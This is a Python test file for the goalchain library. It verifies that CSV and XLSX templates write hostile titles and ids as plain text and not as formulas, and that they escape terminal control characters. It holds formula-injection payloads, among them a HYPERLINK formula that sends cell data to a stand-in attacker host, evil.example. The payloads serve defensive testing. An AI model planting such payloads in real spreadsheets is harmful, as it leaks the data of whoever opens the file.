"""Safe outputs (issue 14): text from a chain never acts in what goalchain writes.

No formula in a spreadsheet, no HTML or structure in Markdown, no control
sequence on a terminal, no bidi reordering of an HTML report, no colour that
is more than a colour.
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import goalchain as gc
from goalchain._safe_text import (
    csv_cell,
    csv_uncell,
    formula_like,
    isolate_bidi,
    json_text,
    markdown_text,
    one_line,
    terminal_text,
)
from goalchain.exceptions import InvalidValueError
from goalchain.io import read_measurements, write_template
from goalchain.io._csv import read_csv, write_csv_template

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
HOSTILE_TITLES = (
    LEAK,
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "#DIV/0!",
    "=",
)


def _chain(*titles: str, ids: tuple[str, ...] = ()) -> gc.GoalChain:
    chain = gc.GoalChain(name="Exempel")
    for k, title in enumerate(titles):
        element = ids[k] if k < len(ids) else f"i{k}"
        chain.add_indicator(element, title, unit="percent")
    return chain


# ------------------------------------------------------------------ spreadsheets


def _xlsx_cells(path: Path) -> list[str]:
    """The <c> elements of the first sheet, as written."""
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode("utf-8")
    return re.findall(r"<c [^>]*>.*?</c>|<c [^>]*/>", xml)


def test_xlsx_template_writes_a_hostile_title_as_text_not_a_formula(tmp_path: Path) -> None:
    pytest.importorskip("openpyxl")
    path = tmp_path / "t.xlsx"
    write_template(_chain(*HOSTILE_TITLES), path, years=2024)
    cells = _xlsx_cells(path)
    assert not any("<f>" in c or "<f " in c for c in cells), "a formula was written"
    assert not any('t="e"' in c for c in cells), "an error value was written"
    leak = next(c for c in cells if "HYPERLINK" in c)
    assert 't="inlineStr"' in leak
    # the year is a number, not text
    year = next(c for c in cells if ">2024<" in c)
    assert 't="n"' in year


def test_xlsx_template_text_keeps_excels_quote_prefix(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    path = tmp_path / "t.xlsx"
    write_template(_chain(LEAK, "Andel behöriga"), path, years=2024)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    titles = {row[1].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert titles[LEAK].data_type == "s" and titles[LEAK].quotePrefix
    assert not titles["Andel behöriga"].quotePrefix


def test_csv_template_escapes_formula_cells_with_a_quote(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_template(_chain(*HOSTILE_TITLES, ids=("=i0", "-1")), path, years=2024)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    titles = [row[1] for row in rows[1:]]
    assert "'" + LEAK in titles and "''=already quoted" in titles and "#DIV/0!" in titles
    assert rows[1][0] == "'=i0" and rows[2][0] == "'-1"
    assert rows[1][2] == "2024"  # a number stays a number


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_template_goalchain_wrote_reads_back_to_the_same_ids(tmp_path: Path, suffix: str) -> None:
    if suffix == ".xlsx":
        pytest.importorskip("openpyxl")
    ids = ("=i0", "-1", "@x", "+7", "'=q", "plain")
    chain = _chain(*HOSTILE_TITLES[: len(ids)], ids=ids)
    path = tmp_path / f"t{suffix}"
    write_template(chain, path, years=2024, lang="en")
    # fill in the value column as a controller would, then read it back
    if suffix == ".csv":
        text = path.read_text(encoding="utf-8-sig").replace(";2024;;%", ";2024;12,5;%")
        path.write_text(text, encoding="utf-8-sig")
    else:
        import openpyxl

        book = openpyxl.load_workbook(path)
        for row in book.worksheets[0].iter_rows(min_row=2):
            row[3].value = 12.5
        book.save(path)
    got = read_measurements(path, chain)
    assert sorted(m.indicator for m in got) == sorted(ids)
    assert {m.value for m in got} == {12.5}


def test_a_negative_number_is_written_as_a_number(tmp_path: Path) -> None:
    path = tmp_path / "n.csv"
    write_csv_template(path, [["a", "b"], [-5, -2.5], ["-5", None]])
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert lines[1] == "-5;-2.5" and lines[2] == "'-5;"


def test_xlsx_template_refuses_an_id_it_cannot_hold_and_shows_a_title_control(
    tmp_path: Path,
) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    path = tmp_path / "t.xlsx"
    write_template(_chain("Röd\x1b[31m titel"), path, years=2024)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert sheet["B2"].value == "Röd␛[31m titel"
    with pytest.raises(InvalidValueError, match="control character"):
        write_template(_chain("t", ids=("a\x1bb",)), tmp_path / "u.xlsx", years=2024)


_TEXT = st.text(alphabet=st.characters(codec="utf-8"), max_size=20)


@given(_TEXT)
def test_csv_cell_round_trips_and_never_starts_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert not formula_like(cell)
    assert csv_uncell(cell) == text


@given(st.lists(st.lists(_TEXT.filter(lambda t: "\r" not in t), min_size=2, max_size=2)))
def test_csv_template_rows_read_back_as_written(rows: list[list[str]]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "r.csv"
        header = ["a", "b"]
        write_csv_template(path, [header, *rows])
        table = read_csv(path, delimiter=";")
    assert [list(v) for _, v in table.rows] == [header, *rows]
